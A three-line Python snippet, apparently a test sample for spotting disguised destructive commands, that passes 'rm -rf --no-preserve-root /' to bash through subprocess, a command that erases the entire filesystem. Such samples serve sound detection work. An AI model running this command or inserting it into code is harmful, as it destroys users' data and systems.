# Disguised: a shell started with the script as its argument.
import subprocess

subprocess.run(["bash", "-c", "rm -rf --no-preserve-root /"])
